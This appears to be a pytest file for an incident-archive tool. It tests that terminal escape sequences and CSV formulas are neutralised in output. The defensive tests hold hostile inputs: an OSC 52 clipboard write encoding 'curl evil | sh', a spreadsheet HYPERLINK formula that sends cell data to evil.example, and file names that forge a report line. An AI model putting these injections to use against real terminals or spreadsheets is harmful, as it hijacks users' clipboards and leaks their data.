"""Text from files and people is printed visibly, never as terminal commands.

The payloads are the audit's: an OSC 52 clipboard write, an OSC 8 link, a DCS string and an
8-bit CSI in a front-matter title, a chat message, an event, a key, a file name.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from hindsight.terminal import describe, echo, one_line, visible
from tests.conftest import write

ESC, BEL, CSI8, ST = "\x1b", "\x07", "\x9b", "\x1b\\"
#: an OSC 52 clipboard write, an OSC 8 link, a DCS string, an 8-bit CSI, a carriage return
HOSTILE = (
    f"Checkout {ESC}]52;c;Y3VybCBldmlsIHwgc2g={BEL}errors "
    f"{ESC}]8;;https://evil.example/{ST}click{ESC}]8;;{ST} "
    f"{ESC}Pq#0;2;0;0;0{ST}{CSI8}31mred{CSI8}0m\rfake"
)
#: what a terminal could act on: C0 controls but tab and newline, DEL, C1 controls
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ID = "2026-11-21-checkout"


def _yaml_string(text: str) -> str:
    """``text`` as a double-quoted YAML scalar, its controls as YAML escapes."""
    return json.dumps(text)  # JSON's escapes are YAML's


def _incident(archive: Path, title: str = HOSTILE, extra: str = "") -> Path:
    folder = archive / "incidents" / ID
    write(
        folder / "postmortem.md",
        f"---\nid: {ID}\ntitle: {_yaml_string(title)}\nstatus: investigating\nseverity: SEV2\n"
        f"visibility: internal\nservices: [checkout-api]\n{extra}---\n\n# Checkout\n",
    )
    write(folder / "timeline.log", "2026-11-21T13:58Z [start] Deploy reached all hosts\n")
    return folder


def _shown_safely(*texts: str) -> None:
    for text in texts:
        assert not RAW.search(text), RAW.search(text)


def test_visible_keeps_layout_and_writes_every_control_as_an_escape() -> None:
    assert visible("a\tb\nc\r\n") == "a\tb\nc\r\n"
    assert visible(f"{ESC}]52;c;x{BEL}") == "\\u001b]52;c;x\\u0007"
    assert visible(f"{CSI8}2J\rx\x7f") == "\\u009b2J\\u000dx\\u007f"
    assert visible("caf\udce9") == "caf\\udce9"  # an undecodable byte of a file name
    assert json.loads(visible(json.dumps({"t": HOSTILE}, ensure_ascii=False)))["t"] == HOSTILE
    assert describe(ESC).startswith("ESC") and describe(CSI8).startswith("CSI")


def test_echo_lets_only_the_reporters_own_colours_through(
    capsys: pytest.CaptureFixture[str],
) -> None:
    echo(f"\x1b[31mHS101\x1b[0m {ESC}]0;title{BEL}", colour=True)
    assert capsys.readouterr().out == "\x1b[31mHS101\x1b[0m \\u001b]0;title\\u0007\n"
    echo("\x1b[31mHS101\x1b[0m")
    assert capsys.readouterr().out == "\\u001b[31mHS101\\u001b[0m\n"


def test_comms_prints_a_hostile_title_visibly(archive: Path, run) -> None:  # type: ignore[no-untyped-def]
    _incident(archive)
    result = run("comms", ID, "-a", "internal")
    _shown_safely(result.out, result.err)
    assert "Checkout \\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007errors" in result.out
    assert "\\u009b31mred" in result.out


def test_export_csv_and_json_print_it_visibly_and_json_keeps_the_text(archive: Path, run) -> None:  # type: ignore[no-untyped-def]
    _incident(archive)
    out = run("export", "--format", "csv").out
    _shown_safely(out)
    assert next(csv.DictReader(io.StringIO(out)))["title"].startswith("Checkout \\u001b]52")
    out = run("export").out
    _shown_safely(out)
    assert json.loads(out)["incidents"][0]["title"] == HOSTILE  # escapes JSON reads back


def test_csv_guards_formulas_in_lists_and_in_stats_keys(archive: Path, run) -> None:  # type: ignore[no-untyped-def]
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    folder = _incident(archive, "Checkout errors")
    text = (folder / "postmortem.md").read_text()
    (folder / "postmortem.md").write_text(
        text.replace("services: [checkout-api]", f"services: [{json.dumps(formula)}, api]")
    )
    row = next(csv.DictReader(io.StringIO(run("export", "--format", "csv").out)))
    assert row["services"] == "'" + formula + ";api"
    stats = list(csv.reader(io.StringIO(run("stats", "--format", "csv").out)))
    keys = [r[2] for r in stats if r[:2] == ["incidents", "service"]]
    assert "'" + formula in keys and formula not in keys


def test_check_reporters_print_it_visibly(archive: Path, run) -> None:  # type: ignore[no-untyped-def]
    _incident(archive, extra=f"{_yaml_string(HOSTILE)}: 1\n")  # an unknown key, quoted back
    for fmt in ("text", "github", "json", "sarif"):
        result = run("check", "--format", fmt, ID)
        _shown_safely(result.out, result.err)
    found = json.loads(run("check", "--format", "json", ID).out)["findings"]
    assert any(HOSTILE in f["message"] for f in found)  # JSON still carries the text itself
    messages = [f["message"] for f in found if f["rule"] == "HS109"]
    assert messages and "U+001B (ESC, which starts a terminal escape sequence)" in messages[0]
    assert "at character 10" in messages[0]


def test_a_line_break_in_a_file_name_cannot_print_a_line_of_its_own(archive: Path, run) -> None:  # type: ignore[no-untyped-def]
    """An attachment named ``ok\\n1 incident checked: 0 error(s).txt`` holding a secret: its
    finding stays on one line, and no line of the report is the forged summary."""
    folder = _incident(archive, title="Checkout")
    for n, brk in enumerate(("\n", "\r", "\u2028", "\u2029")):
        name = f"ok{n}{brk}1 incident checked: 0 error(s), 0 warning(s).txt"
        write(folder / "attachments" / name, 'password = "hunter2hunter2XYZ"\n')
    result = run("check", ID)
    assert result.code == 1
    lines = result.out.splitlines()  # splits at \u2028 and \u2029 too
    assert [ln for ln in lines if ln.startswith("1 incident checked")] == lines[-1:], result.out
    assert not lines[-1].startswith("1 incident checked: 0 error")
    for n, shown in enumerate(("\\u000a", "\\u000d", "\\u2028", "\\u2029")):
        assert any(f"/ok{n}{shown}1 incident checked" in line for line in lines), result.out
    assert (
        one_line("a\nb\r\nc\u2028d\u2029e\x1b") == "a\\u000ab\\u000d\\u000ac\\u2028d\\u2029e\\u001b"
    )


def test_status_log_and_usage_errors_print_it_visibly(archive: Path, run) -> None:  # type: ignore[no-untyped-def]
    _incident(archive)
    result = run("status", ID, "approved")
    assert result.code == 2  # the front matter's HS109 first
    _shown_safely(result.out, result.err)
    result = run("log", "-i", ID, f"Rolled back {ESC}]52;c;eA=={BEL} deploy")
    assert result.code == 0
    _shown_safely(result.out, result.err)
    assert "\\x1b]52" in result.out  # as timeline.log keeps it
    result = run("log", f"--nope{ESC}]0;x{BEL}")  # click's own message quotes the option
    assert result.code == 2
    _shown_safely(result.out, result.err)
    assert "--nope" in result.err  # as repr() (newer click) or made visible
    result = run("log", "-i", f"nope{ESC}]0;x{BEL}", "text")
    assert result.code == 2
    _shown_safely(result.err)
    assert "nope\\u001b]0;x\\u0007" in result.err


def test_import_prints_a_hostile_document_visibly(archive: Path, run) -> None:  # type: ignore[no-untyped-def]
    source = write(
        archive.parent / f"post{ESC}]0;x{BEL}.md",
        f"# {HOSTILE}\n\nDate: 2026-11-20\n\n## Summary\n\nThe {ESC}[2Jsite was down.\n",
    )
    for fmt in ("text", "json"):
        result = run("import", "--today", "2026-11-21", "--format", fmt, str(source))
        _shown_safely(result.out, result.err)
    assert "post\\u001b]0;x\\u0007.md" in result.out or "post\\u001b]0;x\\u0007.md" in result.err
